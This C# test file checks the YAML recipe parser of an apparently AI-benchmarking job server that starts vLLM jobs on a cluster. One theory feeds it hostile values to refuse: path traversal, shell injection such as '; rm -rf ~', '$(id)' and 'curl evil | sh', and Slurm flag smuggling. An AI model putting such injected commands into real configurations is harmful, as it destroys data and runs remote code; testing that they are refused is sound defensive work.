using Aibench.Server.Recipes;
using Aibench.Tests.Infrastructure;

namespace Aibench.Tests.Server;

public sealed class RecipeTests
{
    private const string Minimal = """
        name: demo
        category: inference
        command: [serve, --port, "{{port}}"]
        ports:
          - name: http
            port: 8000
        """;

    private static RecipeParseResult Parse(string yaml) => RecipeParser.Parse(yaml, "test.yaml");

    private static RecipeError SingleError(string yaml)
    {
        var result = Parse(yaml);
        Assert.Null(result.Recipe);
        return Assert.Single(result.Errors);
    }

    public static TheoryData<string> ShippedRecipes => new(
        Directory.GetFiles(Path.Combine(Repo.Root, "recipes"), "*.yaml").Select(Path.GetFileNameWithoutExtension)!);

    [Theory]
    [MemberData(nameof(ShippedRecipes))]
    public void Every_shipped_recipe_is_valid_and_named_after_its_file(string name)
    {
        var result = Parse(File.ReadAllText(Path.Combine(Repo.Root, "recipes", name + ".yaml")));
        Assert.Empty(result.Errors);
        Assert.Equal(name, result.Recipe!.Name);
        if (name == "vllm-sim")
        {
            // The simulator needs no GPU and runs on whatever partition the site defaults to.
            Assert.Equal(0, result.Recipe.Resources.GpusPerNode);
            Assert.Equal("{{aibench}}", result.Recipe.Command[0]);
            return;
        }

        // MeluXina-friendly defaults for the real vLLM recipes.
        Assert.Equal("gpu", result.Recipe.Resources.Partition);
        Assert.Equal(4, result.Recipe.Resources.GpusPerNode);
        Assert.Contains(result.Recipe.Parameters, p => p.Name == "hf_token" && p.Secret);
    }

    [Fact]
    public void Defaults_fill_what_a_minimal_recipe_leaves_out()
    {
        var recipe = Parse(Minimal).Recipe!;
        Assert.Equal(DeploymentMode.Single, recipe.Deployment);
        Assert.Equal(1, recipe.Resources.Nodes);
        Assert.Equal("/health", recipe.Readiness.Path);
        Assert.Equal(TimeSpan.FromMinutes(15), recipe.Readiness.Timeout);
    }

    [Fact]
    public void Exporters_default_to_auto_and_take_on_and_off()
    {
        Assert.Equal(RecipeExporters.Default, Parse(Minimal).Recipe!.Exporters);
        Assert.Equal(new RecipeExporters(ExporterMode.On, ExporterMode.Auto),
            Parse(Minimal + "\nmetrics: {exporters: {node: on}}\n").Recipe!.Exporters);
        Assert.Equal(new RecipeExporters(ExporterMode.Auto, ExporterMode.Off),
            Parse(Minimal + "\nmetrics:\n  exporters:\n    gpu: off\n").Recipe!.Exporters);
    }

    [Fact]
    public void A_bad_exporter_mode_names_the_field_its_line_and_the_modes()
    {
        var error = SingleError(Minimal + "\nmetrics:\n  path: /metrics\n  exporters:\n    node: always\n");
        Assert.Equal("metrics.exporters.node", error.Field);
        Assert.Equal(10, error.Line);
        Assert.Contains("auto, on, off", error.Message);
    }

    [Fact]
    public void An_unknown_key_is_an_error_with_its_line_and_column()
    {
        var error = SingleError(Minimal + "\nresources:\n  gpu_per_node: 4\n");
        Assert.Contains("unknown key 'gpu_per_node'", error.Message);
        Assert.Equal(8, error.Line);
        Assert.Equal(3, error.Column);
    }

    [Fact]
    public void A_list_never_closed_is_an_error_at_its_line_that_says_so()
    {
        // YamlDotNet's scanner fails with "Operation is not valid due to the current state of the object" here.
        var error = SingleError(Minimal + "\nmodules: [cuda\nenv: {}\n");
        Assert.True(error.Line == 7 && error.Message.Contains("never closed", StringComparison.Ordinal), error.ToString());
    }

    [Fact]
    public void A_wrong_type_is_an_error_with_its_line()
    {
        var error = SingleError(Minimal + "\nresources:\n  nodes: many\n");
        Assert.Equal(8, error.Line);
        Assert.Contains("wrong type", error.Message);
    }

    [Theory]
    [InlineData("name: ../../etc/passwd", "name")]
    [InlineData("name: Demo", "name")]
    [InlineData("category: chat", "category")]
    [InlineData("image: docker://vllm/vllm-openai:latest; rm -rf ~", "image")]
    [InlineData("image: \"$(whoami).sif\"", "image")]
    [InlineData("command: [\"serve\\nrm -rf ~\"]", "command[0]")]
    [InlineData("command: [serve, \"{{nope}}\"]", "command[1]")]
    [InlineData("command: [serve, \"{{port\"]", "command[1]")]
    [InlineData("modules: [\"Apptainer; curl evil | sh\"]", "modules[0]")]
    [InlineData("env: {\"PATH;x\": y}", "env.PATH;x")]
    [InlineData("env: {SLURM_JOB_ID: x}", "env.SLURM_JOB_ID")]
    [InlineData("env: {TOKEN: \"{{secret}}\"}", "env.TOKEN")]
    [InlineData("env: {TOKEN: \"a\\tb\"}", "env.TOKEN")]
    [InlineData("resources: {partition: \"gpu --wrap=x\"}", "resources.partition")]
    [InlineData("resources: {account: \"p2$(id)\"}", "resources.account")]
    [InlineData("resources: {qos: \"a`b`\"}", "resources.qos")]
    [InlineData("resources: {memory: 64 GB}", "resources.memory")]
    [InlineData("resources: {time_limit: \"2h; id\"}", "resources.time_limit")]
    [InlineData("resources: {constraint: \"a100 && $(id)\"}", "resources.constraint")]
    [InlineData("resources: {nodes: -1}", "resources.nodes")]
    [InlineData("resources: {nodes: 100000}", "resources.nodes")]
    [InlineData("readiness: {path: \"/health; id\"}", "readiness.path")]
    [InlineData("readiness: {timeout: forever}", "readiness.timeout")]
    [InlineData("metrics: {path: metrics}", "metrics.path")]
    [InlineData("metrics: {exporters: {node: yes}}", "metrics.exporters.node")]
    [InlineData("metrics: {exporters: {gpu: \"on; id\"}}", "metrics.exporters.gpu")]
    [InlineData("deployment: cluster", "deployment")]
    [InlineData("ports: [{name: http, port: 70000}]", "ports[0].port")]
    [InlineData("parameters: [{name: Model, type: string}]", "parameters[0].name")]
    [InlineData("parameters: [{name: port, type: string}]", "parameters[0].name")]
    [InlineData("parameters: [{name: n, type: int, default: \"ten\"}]", "parameters[0].default")]
    [InlineData("parameters: [{name: n, type: int, default: \"50\", max: 10}]", "parameters[0].default")]
    [InlineData("parameters: [{name: e, type: enum}]", "parameters[0].values")]
    [InlineData("parameters: [{name: d, type: date}]", "parameters[0].type")]
    [InlineData("restart: {max: 11}", "restart.max")]
    [InlineData("restart: {backoff: 30s}", "restart.max")]
    [InlineData("restart: {max: 2, backoff: later}", "restart.backoff")]
    public void A_bad_field_is_refused_with_its_path(string override_, string field)
    {
        // The override replaces the minimal recipe's key of the same name, or adds it.
        var key = override_.Split(':')[0];
        var lines = Minimal.Split('\n').ToList();
        var at = lines.FindIndex(l => l.StartsWith(key + ":", StringComparison.Ordinal));
        if (at >= 0)
        {
            lines.RemoveAt(at);
            while (at < lines.Count && lines[at].StartsWith(' ')) lines.RemoveAt(at);
        }

        lines.Add(override_);
        var result = Parse(string.Join('\n', lines));
        Assert.Null(result.Recipe);
        Assert.Contains(result.Errors, e => e.Field == field);
        Assert.All(result.Errors.Where(e => e.Field == field), e => Assert.NotNull(e.Line));
    }

    [Fact]
    public void A_restart_policy_is_read_and_none_is_the_default()
    {
        Assert.Equal(0, Parse(Minimal).Recipe!.Restart.Max);
        var restart = Parse(Minimal + "\nrestart: {max: 2, backoff: 45s}\n").Recipe!.Restart;
        Assert.Equal(2, restart.Max);
        Assert.Equal(TimeSpan.FromSeconds(45), restart.Backoff);
        Assert.Equal(TimeSpan.FromSeconds(30), Parse(Minimal + "\nrestart: {max: 1}\n").Recipe!.Restart.Backoff);
    }

    [Fact]
    public void Parameter_values_are_checked_against_the_schema_and_unknown_names_refused()
    {
        var recipe = Parse(Minimal + """

            parameters:
              - {name: model, type: string, required: true}
              - {name: tp, type: int, default: "4", min: 1, max: 8}
              - {name: mode, type: enum, values: [fast, slow], default: fast}
              - {name: util, type: float, default: "0.9", max: 0.99}
              - {name: flag, type: bool, default: "false"}
            """).Recipe!;
        var errors = new Dictionary<string, List<string>>();
        var values = Parameters.Resolve(recipe, new Dictionary<string,
            string?> { ["tp"] = "9", ["mode"] = "medium", ["util"] = "NaN", ["flag"] = "yes", ["extra"] = "1" }, errors);

        Assert.Equal(
            ["parameters.extra", "parameters.flag", "parameters.mode", "parameters.model", "parameters.tp", "parameters.util"],
            errors.Keys.Order(StringComparer.Ordinal));
        Assert.Empty(values);

        errors.Clear();
        values = Parameters.Resolve(recipe, new Dictionary<string, string?> { ["model"] = "m; rm -rf ~" }, errors);
        Assert.Empty(errors);
        Assert.Equal("m; rm -rf ~", values["model"]);
        Assert.Equal("4", values["tp"]);
    }
}
